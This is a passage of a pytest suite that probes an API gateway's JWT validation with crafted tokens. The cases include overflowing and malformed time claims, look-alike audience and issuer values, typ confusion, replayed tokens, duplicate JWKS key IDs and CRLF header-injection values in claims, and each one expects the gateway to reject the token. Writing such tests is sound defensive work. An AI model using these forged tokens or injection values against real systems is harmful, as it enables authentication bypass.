        "exp-null": ('"exp":null', "claim_type"),
        "exp-array": ('"exp":[%d]' % (now + 300), "claim_type"),
        "exp-minus-1": ('"exp":-1', "expired"),
        "exp-zero": ('"exp":0', "expired"),
        "exp-minus-zero": ('"exp":-0', ("expired", "claim_type")),
        "exp-past": ('"exp":%d' % (now - 3600), "expired"),
        "exp-float": ('"exp":%d.5' % (now + 300), "claim_type"),
        "nbf-future": ('"exp":%d,"nbf":%d' % (now + 3000, now + 1800), "not_yet_valid"),
        "nbf-string": ('"exp":%d,"nbf":"%d"' % (now + 300, now), "claim_type"),
        "iat-day-ahead": ('"exp":%d,"iat":%d' % (now + 300, now + 86400), "issued_in_future"),
        "iat-yesterday-text": ('"exp":%d,"iat":"yesterday"' % (now + 300), "claim_type"),
        # ATTACKS #32
        "exp-i64-max": ('"exp":9223372036854775807', "lifetime_too_long"),
        "exp-i64-max-plus-1": ('"exp":9223372036854775808', "claim_type"),
        "exp-u64-max-plus-1": ('"exp":18446744073709551616', "claim_type"),
        "exp-1e30": ('"exp":1e30', "claim_type"),
        "exp-1e400": ('"exp":1e400', "json"),
        "exp-nan": ('"exp":NaN', "json"),
        "exp-exponent-form": ('"exp":1.7000036e9', "claim_type"),
    }


HUGE_NUMBERS = ["exp-i64-max", "exp-i64-max-plus-1", "exp-u64-max-plus-1", "exp-1e30", "exp-1e400",
                "exp-nan", "exp-exponent-form"]


@pytest.mark.parametrize("name", [n for n in time_cases() if n not in HUGE_NUMBERS])
def test_a31_time_claim_types(gateway, origin, ctx, name):
    member, reason = time_cases()[name]
    payload = ctx.raw_claims("," + member, exp=None, iat=None)
    case(gateway, origin, ctx.signed(payload=payload), reasons=reason)


@pytest.mark.parametrize("name", HUGE_NUMBERS)
def test_a32_huge_numbers(gateway, origin, ctx, name):
    member, reason = time_cases()[name]
    payload = ctx.raw_claims("," + member, exp=None)
    case(gateway, origin, ctx.signed(payload=payload), reasons=reason)


@pytest.mark.parametrize("claim, reason", [("exp", "exp_missing"), ("iss", "issuer_mismatch"),
                                           ("aud", "audience_mismatch")])
def test_a33_missing_required_claims(gateway, origin, ctx, claim, reason):
    case(gateway, origin, ctx.signed(payload=ctx.claims(**{claim: None})), reasons=reason)


AUD_MISSES = {
    "array-without": ["https://other.example"], "empty-array": [], "empty-string": "",
    "trailing-slash": "https://api.example.com/", "upper-case": "https://API.example.com",
    "suffix-host": "https://api.example.com.attacker.example", "substring": "https://api.example",
    "non-string-element": [1, "https://api.example.com"], "object": {"aud": "https://api.example.com"},
    "null": None, "comma-joined": "https://other.example,https://api.example.com", "star": "*",
}


@pytest.mark.parametrize("name", list(AUD_MISSES))
def test_a34_audience_near_misses(gateway, origin, ctx, name):
    claims = ctx.claims()
    claims["aud"] = AUD_MISSES[name]
    case(gateway, origin, ctx.signed(payload=claims), reasons=("audience_mismatch", "claim_type"))


@pytest.mark.parametrize("name", ["trailing-slash", "upper-case", "suffix-host", "tenant-path", "scheme",
                                  "host-alias", "trailing-space", "nul", "array"])
def test_a35_issuer_near_misses(gateway, servers, origin, ctx, name):
    base = servers.issuer.issuer
    iss = {
        "trailing-slash": base + "/", "upper-case": base.upper(), "suffix-host": base + ".attacker.example",
        "tenant-path": base + "/tenant/evil", "scheme": base.replace("http://", "https://"),
        "host-alias": base.replace("127.0.0.1", "localhost"), "trailing-space": base + " ",
        "nul": base + "\u0000", "array": [base],
    }[name]
    claims = ctx.claims()
    claims["iss"] = iss
    case(gateway, origin, ctx.signed(payload=claims), reasons=("issuer_mismatch", "claim_type"))


@pytest.mark.parametrize(
    "typ, status",
    [("dpop+jwt", 401), ("JWT", 401), ("rt+jwt", 401), ("logout+jwt", 401), ("secevent+jwt", 401),
     (None, 401), (1, 401), ("at+jwt ", 401), ("AT+JWT", 200), ("application/at+jwt", 200),
     ("Application/AT+JWT", 200)],
)
def test_a36_typ_confusion(gateway, origin, ctx, typ, status):
    header = {"alg": "ES256", "kid": "k-es256"}
    if typ is not None:
        header["typ"] = typ
    case(gateway, origin, ctx.signed(header), status, None if status == 200 else ("typ_not_accepted", "header_type"))


def test_a36_id_token_and_rfc9449_proof_as_bearer(gateway, origin, ctx):
    id_token = ctx.signed({"alg": "ES256", "kid": "k-es256", "typ": "JWT"},
                          ctx.claims(aud="client-123", nonce="n", azp="client-123"))
    case(gateway, origin, id_token, reasons="typ_not_accepted")
    remark(origin, ctx.servers)
    proof = rfc_vector("rfc9449-fig2-fig5-token-request-proof")["compact"]
    case(gateway, origin, proof, reasons=("typ_not_accepted", "unsupported_header", "alg_not_allowed"))


def test_a37_replay_same_jti(gateway, servers, origin, ctx):
    token = ctx.good()
    case(gateway, origin, token, 200, path="/attacks/replay")
    remark(origin, servers)
    case(gateway, origin, token, reasons="replayed_token", path="/attacks/replay")
    # A refused token does not consume its jti.
    jti = secrets.token_urlsafe(12)
    forged = with_signature(ctx.good(jti=jti), bytes(64))
    remark(origin, servers)
    case(gateway, origin, forged, reasons="bad_signature", path="/attacks/replay")
    remark(origin, servers)
    case(gateway, origin, ctx.good(jti=jti), 200, path="/attacks/replay")
    # One-time use needs a jti.
    remark(origin, servers)
    case(gateway, origin, ctx.good(jti=None), reasons=("required_claim_missing", "jti_missing"),
         path="/attacks/replay")


@pytest.mark.parametrize(
    "name, status, reason",
    [("exp-now-minus-30", 200, None), ("exp-now-minus-61", 401, "expired"),
     ("nbf-now-plus-30", 200, None), ("nbf-now-plus-120", 401, "not_yet_valid")],
)
def test_a38_clock_skew_boundaries(gateway, origin, ctx, name, status, reason):
    now = int(time.time())
    claims = {
        "exp-now-minus-30": dict(exp=now - 30, iat=now - 300),
        "exp-now-minus-61": dict(exp=now - 61, iat=now - 300),
        "nbf-now-plus-30": dict(nbf=now + 30),
        "nbf-now-plus-120": dict(nbf=now + 120),
    }[name]
    case(gateway, origin, ctx.signed(payload=ctx.claims(**claims)), status, reason)


HDRINJ = {
    "crlf": ("sub", "user-1\r\nX-Admin: true"), "lf": ("sub", "\nX-Admin: true"),
    "cr": ("sub", "\rX-Admin: true"), "nul": ("sub", "user-1\u0000admin"), "del": ("sub", "user\u007f"),
    "obs-fold": ("sub", "user-1\r\n\tadmin"), "20000-chars": ("sub", "a" * 5000),
    "u2028": ("sub", "user\u2028"), "fullwidth": ("sub", "ａｄｍｉｎ"), "rtl": ("sub", "user\u202eadmin"),
    "scope-crlf": ("scope", "read\r\nX-Admin: true"),
}


@pytest.mark.parametrize("name", list(HDRINJ))
def test_a39_claims_copied_into_headers(gateway, origin, ctx, name):
    claim, value = HDRINJ[name]
    case(gateway, origin, ctx.good(**{claim: value}), reasons="unforwardable_claim")


def test_a39_quoted_value_is_forwarded_verbatim_in_its_own_header(gateway, origin, ctx):
    value = 'a@b.example"; role=admin'
    case(gateway, origin, ctx.good(sub=value), 200)
    assert dict(origin.since()[0]["headers"])["x-verified-user"] == value


# ---- E. JWKS handling (41-44: test_keys.py) --------------------------------------------------------

def test_a40_duplicate_kid_in_jwks(gateway, servers, origin):
    iss = servers.issuer_named("dup-kid")
    attacker = attacker_ec()
    trusted = iss.keys["dup-kid-es256"]
    iss.body = json.dumps({"keys": [
        {**trusted.as_dict(private=False), "kid": "shared"},
        {**attacker.as_dict(private=False), "kid": "shared"},
        iss.keys["dup-kid-eddsa"].as_dict(private=False),
    ]}).encode()
    for key in (attacker, trusted):
        remark(origin, servers)
        token = jws({"alg": "ES256", "kid": "shared", "typ": "at+jwt"}, iss.claims(sub="admin"), key)
        case(gateway, origin, token, reasons="ambiguous_key", path="/attacks/dup-kid")
    # The other kids of the set keep working.
    remark(origin, servers)
    case(gateway, origin, iss.mint("dup-kid-eddsa"), 200, path="/attacks/dup-kid")


def test_a45_cross_issuer_key_confusion(gateway, servers, origin, ctx):
    # Signed with the trusted issuer's key, claiming another issuer.
    case(gateway, origin, ctx.good(iss="https://other-tenant.example"), reasons="issuer_mismatch")
    # Another issuer's own valid token: its key is not in this provider's JWKS.
    other = servers.issuer_named("cross-issuer")
    remark(origin, servers)
    case(gateway, origin, other.mint("cross-issuer-es256"), reasons="unknown_key")
    remark(origin, servers)
    case(gateway, origin, other.mint("cross-issuer-es256", iss=servers.issuer.issuer), reasons="unknown_key")
